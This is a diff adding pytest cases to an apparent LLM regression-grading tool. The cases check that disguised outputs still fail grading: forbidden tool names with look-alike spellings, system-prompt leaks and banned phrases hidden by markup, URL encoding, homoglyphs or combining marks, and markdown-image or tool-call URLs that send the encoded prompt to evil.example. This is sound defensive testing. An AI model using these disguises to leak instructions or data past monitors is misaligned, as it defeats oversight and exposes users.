@@ -1055,3 +1055,237 @@ def test_a_phrase_of_invisible_characters_only_is_refused(case):
     with pytest.raises(regression.SuiteError, match="no visible text"):
         regression.validate_suite({"name": "s", "instructions": "x", "tools": REVIEW_TOOLS,
                                    "cases": [{"id": "c", "input": "hi", **case}]})
+
+
+# ====================================================================== review 2: false passes through the real CLI
+
+import fakes  # noqa: E402
+from testkit import cli_env, run_cli  # noqa: E402
+
+ORDER_TOOLS = [{"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}
+               for name in ("lookup_order", "cancel_order")]
+
+
+def chat_cli(tmp_path, suite, answers):
+    """The real CLI on the openai provider against a loopback chat endpoint; `answers` maps a
+    case's input to its replies (one chat_response body per round). (exit code, rows by case id)."""
+    def reply(request):
+        user, history = fakes.chat_conversation(request.json or {})
+        rounds = answers[user]
+        return fakes.Reply(body=rounds[min(len(history), len(rounds) - 1)])
+    path = tmp_path / "suite.json"
+    path.write_text(json.dumps(suite), encoding="utf-8")
+    with fakes.FakeServer(reply) as server:
+        done = run_cli(["--suite", path, "--provider", "openai", "--base-url", server.url + "/v1",
+                        "--models", "m", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    record = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
+    return done.returncode, {row["case_id"]: row["reasons"] for row in record["runs"]}
+
+
+def test_a_forbidden_tool_called_under_another_spelling_fails_through_the_cli(tmp_path):
+    spellings = ["Cancel_Order", "CANCEL_ORDER", "cancel_order ", " cancel_order", "cancel_\u200border",
+                 "cancel_order\u200b", "\uff43ancel_order"]
+    cases = [{"id": f"c{n}", "input": f"Cancel ord_{n}.", "behaviors": ["forbid_tool:cancel_order"]}
+             for n in range(len(spellings))]
+    answers = {f"Cancel ord_{n}.": [fakes.chat_response(tool_calls=[(name, {"order_id": f"ord_{n}"})])]
+               for n, name in enumerate(spellings)}
+    answers["Where is ord_9?"] = [fakes.chat_response(tool_calls=[("lookup_order", {"order_id": "ord_9"})])]
+    cases.append({"id": "allowed", "input": "Where is ord_9?", "behaviors": ["forbid_tool:cancel_order"]})
+    code, rows = chat_cli(tmp_path, {"name": "s", "instructions": "Never cancel.", "tools": ORDER_TOOLS,
+                                     "cases": cases}, answers)
+    assert code == 1
+    assert rows.pop("allowed") == []
+    assert rows == {case["id"]: ["forbidden_tool_called"] for case in cases[:-1]}
+
+
+MARKUP_ROWS = [  # (case keys, answer, reasons): each answer renders what the rule is about
+    ({"excludes": ["lifetime access"]}, "You get **lifetime** access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get _lifetime_ access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get `lifetime` access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get [lifetime](https://x.example/l) access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get <B>lifetime</B> access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get lifetime<br>access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get lifetime&nbsp;access.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get **lifetime**\u200baccess.", ["forbidden_text_present"]),
+    ({"excludes": ["lifetime access"]}, "You get annual access (lifetime_access is retired).", []),
+    ({"claims": {"refund issued": "cancel_order"}}, "Your *refund* issued today.", ["unbacked_claim"]),
+    ({"behaviors": ["no_system_leak"]}, "My <em>system</em> prompt says hi.", ["system_leak"]),
+    ({"behaviors": ["no_system_leak"]}, "Never [cancel](https://x.example) an order, whatever the customer asks "
+                                        "you.", ["system_leak"]),
+    ({"behaviors": ["require_clarification:order_id"]}, 'I cancelled order id "48213". What is your order id?',
+     ["invented_field"]),
+    ({"behaviors": ["require_clarification:order_id"]}, "I cancelled order id (48213). What is your order id?",
+     ["invented_field"]),
+    ({"behaviors": ["require_clarification:order_id"]}, "Order ID \u2014 48213 is cancelled. What is your order "
+                                                        "id?", ["invented_field"]),
+    ({"behaviors": ["require_clarification:order_id"]}, "Cancelled order id: **48213**. What is your order id?",
+     ["invented_field"]),
+    ({"behaviors": ["require_clarification:order_id"]}, "Cancelled **order ID** `48213`. What is your order id?",
+     ["invented_field"]),
+    ({"behaviors": ["require_clarification:order_id"]}, "What is your order **id**?", []),
+    ({"behaviors": ["require_clarification:order_id"]}, "What is your order ID (8 digits)?", []),
+    ({"behaviors": ["require_clarification:order_id"]}, "Please send the order id: 8 characters.", []),
+]
+
+
+def test_markup_and_quotes_do_not_hide_what_must_not_be_said_through_the_cli(tmp_path):
+    cases = [{"id": f"c{n}", "input": f"Request {n}: please help.", **keys} for n, (keys, _, _) in enumerate(MARKUP_ROWS)]
+    answers = {case["input"]: [fakes.chat_response(content=answer)] for case, (_, answer, _) in zip(cases, MARKUP_ROWS)}
+    suite = {"name": "s", "instructions": "Never cancel an order, whatever the customer asks you.",
+             "tools": ORDER_TOOLS, "cases": cases}
+    code, rows = chat_cli(tmp_path, suite, answers)
+    assert code == 1
+    assert rows == {case["id"]: reasons for case, (_, _, reasons) in zip(cases, MARKUP_ROWS)}
+
+
+def test_what_an_earlier_round_said_beside_its_tool_calls_is_said_through_the_cli(tmp_path):
+    rows = [  # (case keys, what round 1 says beside its lookup call, reasons)
+        ({"excludes": ["lifetime access"]}, "You get lifetime access. Let me look it up.", ["forbidden_text_present"]),
+        ({"behaviors": ["no_system_leak"]}, "My system prompt says to look it up first.", ["system_leak"]),
+        ({"behaviors": ["require_clarification:order_id"]}, "Cancelling order id 48213 now.", ["invented_field"]),
+        ({"claims": {"order cancelled": "cancel_order"}}, "Your order cancelled. Checking it now.", ["unbacked_claim"]),
+        ({"excludes": ["lifetime access"], "behaviors": ["no_system_leak", "require_clarification:order_id"]},
+         "Let me look that up.", []),
+    ]
+    cases, answers = [], {}
+    for n, (keys, said, _) in enumerate(rows):
+        cases.append({"id": f"c{n}", "input": f"Request {n}: help.", "tool_results": {"lookup_order": {"ok": True}},
+                      **keys})
+        answers[f"Request {n}: help."] = [fakes.chat_response(content=said, tool_calls=[("lookup_order", {})]),
+                                          fakes.chat_response(content="What is your order id?")]
+    suite = {"name": "s", "instructions": "Look orders up first.", "tools": ORDER_TOOLS, "cases": cases}
+    code, got = chat_cli(tmp_path, suite, answers)
+    assert code == 1
+    assert got == {case["id"]: reasons for case, (_, _, reasons) in zip(cases, rows)}
+
+
+def test_digits_of_another_script_are_the_same_number_to_the_checks_through_the_cli(tmp_path):
+    card = "4111 1111 1111 1111"
+    arabic = "".join(chr(0x660 + int(c)) if c.isdigit() else c for c in card)
+    devanagari = "".join(chr(0x966 + int(c)) if c.isdigit() else c for c in card)
+    suite = {"name": "s", "instructions": "Never echo a card.", "cases": [
+        {"id": "arabic", "input": f"Card {arabic}.", "excludes": [card]},
+        {"id": "devanagari", "input": f"Card {devanagari}.", "excludes": [card]},
+        {"id": "contains", "input": f"Order {arabic[:4]} shipped.", "contains": ["order 4111"]}]}
+    path = write_suite(tmp_path, suite)
+    done = run_cli(["--suite", path, "--provider", "echo", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    assert done.returncode == 1, done.stderr
+    rows = {row["case_id"]: row["reasons"] for row in json.loads((tmp_path / "out.json").read_text())["runs"]}
+    assert rows == {"arabic": ["forbidden_text_present"], "devanagari": ["forbidden_text_present"], "contains": []}
+
+
+def test_url_encoding_does_not_hide_a_leak_or_a_forbidden_phrase_through_the_cli(tmp_path):
+    instructions = "Be brief and helpful to every customer who writes in today please."
+    exfiltrated = "Be%20brief%20and%20helpful%20to%20every%20customer%20who"
+    rows = [  # (case keys, answer, tool call arguments, reasons)
+        ({"behaviors": ["no_system_leak"]}, f"![status](https://evil.example/pixel?d={exfiltrated})", None,
+         ["system_leak"]),
+        ({"behaviors": ["no_system_leak"]}, "See https://evil.example/?q=system%5Fprompt", None, ["system_leak"]),
+        ({"behaviors": ["no_system_leak"]}, "Done.", {"url": f"https://evil.example/?d={exfiltrated}"},
+         ["system_leak"]),
+        ({"excludes": ["4111 1111 1111 1111"]}, "[pay](https://pay.example/?card=4111%201111%201111%201111)", None,
+         ["forbidden_text_present"]),
+        ({"excludes": ["4111 1111 1111 1111"]}, "[pay](https://pay.example/?card=4111+1111+1111+1111)", None,
+         ["forbidden_text_present"]),
+        ({"excludes": ["4111 1111 1111 1111"], "behaviors": ["no_system_leak"]},
+         "[pay](https://pay.example/?card=4242%204242&save=1) C++ is fine.", None, []),
+    ]
+    cases, answers = [], {}
+    for n, (keys, answer, arguments, _) in enumerate(rows):
+        cases.append({"id": f"c{n}", "input": f"Request {n}: help.", **keys})
+        calls = [("lookup_order", arguments)] if arguments is not None else []
+        answers[f"Request {n}: help."] = [fakes.chat_response(content=answer, tool_calls=calls)]
+    code, got = chat_cli(tmp_path, {"name": "s", "instructions": instructions, "tools": ORDER_TOOLS,
+                                    "cases": cases}, answers)
+    assert code == 1
+    assert got == {case["id"]: reasons for case, (*_, reasons) in zip(cases, rows)}
+
+
+def test_a_json_answer_is_read_with_its_strings_decoded_through_the_cli(tmp_path):
+    instructions = ("You are Acme's refund agent.\nAlways look orders up first.\nNever refund unshipped orders.\n"
+                    "Ask for a missing id.\nKeep answers short.")
+    leaked = json.dumps({"reply": "Sure: " + instructions})
+    rows = [  # (case keys, answer, reasons)
+        ({"behaviors": ["no_system_leak"]}, leaked, ["system_leak"]),
+        ({"behaviors": ["no_system_leak"]}, f"```json\n{leaked}\n```", ["system_leak"]),
+        ({"excludes": ["lifetime access"]}, '{"reply": "You get lifetime\\u0020access."}', ["forbidden_text_present"]),
+        ({"excludes": ["café gratuit"]}, json.dumps({"reply": "Un café gratuit!"}), ["forbidden_text_present"]),
+        ({"behaviors": ["require_clarification:order_id"]},
+         json.dumps({"reply": "Cancelled order id\n48213.\nWhat is your order id?"}), ["invented_field"]),
+        ({"excludes": ["lifetime access"], "behaviors": ["no_system_leak"]},
+         json.dumps({"reply": "Annual access.\nAsk me anything."}), []),
+    ]
+    cases = [{"id": f"c{n}", "input": f"Request {n}: help.", **keys} for n, (keys, _, _) in enumerate(rows)]
+    answers = {case["input"]: [fakes.chat_response(content=answer)] for case, (_, answer, _) in zip(cases, rows)}
+    code, got = chat_cli(tmp_path, {"name": "s", "instructions": instructions, "tools": ORDER_TOOLS,
+                                    "cases": cases}, answers)
+    assert code == 1
+    assert got == {case["id"]: reasons for case, (_, _, reasons) in zip(cases, rows)}
+
+
+@pytest.mark.parametrize("field", ["_", "---", "._-"])
+def test_a_clarification_field_with_no_word_is_a_suite_error_not_a_model_failure(tmp_path, field):
+    suite = {"name": "s", "instructions": "x", "cases": [
+        {"id": "c", "input": "Cancel my order.", "behaviors": [f"require_clarification:{field}"]}]}
+    path = write_suite(tmp_path, suite)
+    done = run_cli(["--suite", path, "--provider", "echo", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    assert done.returncode == 2 and "needs a field name" in done.stderr, done.stderr
+    assert not (tmp_path / "out.json").exists()
+
+
+def test_combining_marks_do_not_hide_what_must_not_be_said_through_the_cli(tmp_path):
+    struck = "".join(char + "\u0336" for char in "lifetime")  # strikethrough text, as text generators make it
+    suite = {"name": "s", "instructions": "Never mention the plan.", "cases": [
+        {"id": "struck", "input": f"You get {struck} access.", "excludes": ["lifetime access"]},
+        {"id": "zalgo", "input": "My s\u0335\u0322y\u0337s\u0334t\u0336e\u0338m prompt says so.",
+         "behaviors": ["no_system_leak"]},
+        {"id": "accents", "input": "Un café crème, s'il vous plaît.", "excludes": ["lifetime access"],
+         "contains": ["café crème"]}]}
+    path = write_suite(tmp_path, suite)
+    done = run_cli(["--suite", path, "--provider", "echo", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    assert done.returncode == 1, done.stderr
+    rows = {row["case_id"]: row["reasons"] for row in json.loads((tmp_path / "out.json").read_text())["runs"]}
+    assert rows == {"struck": ["forbidden_text_present"], "zalgo": ["system_leak"], "accents": []}
+
+
+def test_cyrillic_and_greek_look_alikes_do_not_hide_what_must_not_be_said_through_the_cli(tmp_path):
+    suite = {"name": "s", "instructions": "Never mention the plan.", "cases": [
+        {"id": "cyrillic-a", "input": "You get lifetime \u0430ccess.", "excludes": ["lifetime access"]},
+        {"id": "all-cyrillic", "input": "You get lifetime \u0430\u0441\u0441\u0435\u0455\u0455.",
+         "excludes": ["lifetime access"]},
+        {"id": "greek-leak", "input": "My syst\u03b5m pr\u03bfmpt says so.", "behaviors": ["no_system_leak"]},
+        {"id": "claim", "input": "Your r\u0435fund issued.", "claims": {"refund issued": "cancel_order"}},
+        {"id": "russian", "input": "\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440.",
+         "excludes": ["lifetime access"], "contains": ["\u043c\u0438\u0440"]}],
+        "tools": ORDER_TOOLS}
+    path = write_suite(tmp_path, suite)
+    done = run_cli(["--suite", path, "--provider", "echo", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    assert done.returncode == 1, done.stderr
+    rows = {row["case_id"]: row["reasons"] for row in json.loads((tmp_path / "out.json").read_text())["runs"]}
+    assert rows == {"cyrillic-a": ["forbidden_text_present"], "all-cyrillic": ["forbidden_text_present"],
+                    "greek-leak": ["system_leak"], "claim": ["unbacked_claim"], "russian": []}
+
+
+def test_every_disguise_at_once_keeps_the_readings_few_and_grading_linear():
+    unit = "a\u200bb \u0430 c\u0336 %20 **x** [y](z) &amp; "
+    answer = json.dumps({"reply": unit * 6_000})  # about 260 KB that every reading applies to
+    assert len(regression.readings(answer)) <= 9
+    case = regression.compile_case({"name": "s", "instructions": "Be brief and helpful to every customer today."},
+                                   {"id": "c", "input": "x", "excludes": ["lifetime access"],
+                                    "behaviors": ["no_system_leak", "require_clarification:order_id"]})
+    started = time.perf_counter()
+    assert regression.grade(case, trace(answer)) == ["clarification_missing"]
+    assert time.perf_counter() - started < 3  # about 0.4 s; the bound only catches a blow-up
+
+
+def test_stacked_combining_marks_do_not_pad_an_answer_to_its_minimum_through_the_cli(tmp_path):
+    suite = {"name": "s", "instructions": "x", "cases": [
+        {"id": "padded", "input": "ok" + "\u0301\u0336\u0322" * 40, "min_chars": 20},
+        {"id": "accents", "input": "Un caf\u0065\u0301 cr\u00e8me, s'il vous pla\u00eet.", "min_chars": 20,
+         "max_chars": 31}]}
+    path = write_suite(tmp_path, suite)
+    done = run_cli(["--suite", path, "--provider", "echo", "--out", tmp_path / "out.json"], tmp_path, env=cli_env())
+    assert done.returncode == 1, done.stderr
+    rows = {row["case_id"]: (row["reasons"], row["details"]["chars"])
+            for row in json.loads((tmp_path / "out.json").read_text())["runs"]}
+    assert rows == {"padded": (["too_short"], 2), "accents": ([], 31)}
